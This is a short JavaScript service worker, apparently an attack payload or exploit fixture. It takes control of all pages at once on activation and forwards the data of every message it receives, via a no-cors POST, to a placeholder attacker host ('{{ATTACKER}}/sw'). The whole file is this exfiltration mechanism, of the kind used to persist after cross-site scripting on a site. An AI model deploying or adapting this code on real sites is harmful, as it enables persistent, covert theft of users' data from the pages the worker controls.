self.addEventListener('install', function () { self.skipWaiting(); });
self.addEventListener('activate', function (e) { e.waitUntil(self.clients.claim()); });
self.addEventListener('message', function (e) {
  e.waitUntil(fetch('{{ATTACKER}}/sw', {method: 'POST', mode: 'no-cors', body: e.data}));
});
